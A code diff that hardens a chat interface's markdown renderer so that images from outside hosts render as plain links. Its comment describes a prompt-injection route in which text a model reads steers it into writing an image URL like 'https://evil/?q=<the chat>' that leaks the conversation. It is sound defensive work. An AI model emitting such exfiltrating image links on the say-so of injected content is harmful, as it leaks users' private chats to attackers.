@@ -48,6 +48,20 @@ md.renderer.rules.fence = (tokens, idx, _options, env) => {
   );
 };
 
+/**
+ * A model's reply can be steered by what it reads (a web page, a workflow's notes) into writing
+ * `![](https://evil/?q=<the chat>)`, which a browser would fetch unasked. So only images on this
+ * page's own server (a path like `/view?…`) are shown; any other becomes a link to click.
+ */
+const renderImage = md.renderer.rules.image!;
+md.renderer.rules.image = (tokens, idx, options, env, self) => {
+  const token = tokens[idx];
+  const src = token.attrGet("src") ?? "";
+  if (/^\/(?![\/\\])/.test(src)) return renderImage(tokens, idx, options, env, self);
+  const alt = self.renderInlineAsText(token.children ?? [], options, env) || src;
+  return `<a href="${escapeHtml(src)}" class="oc-remote-image">${escapeHtml(alt)}</a>`;
+};
+
 let purifier: ReturnType<typeof DOMPurify> | null = null;
 
 function sanitizer(): ReturnType<typeof DOMPurify> {
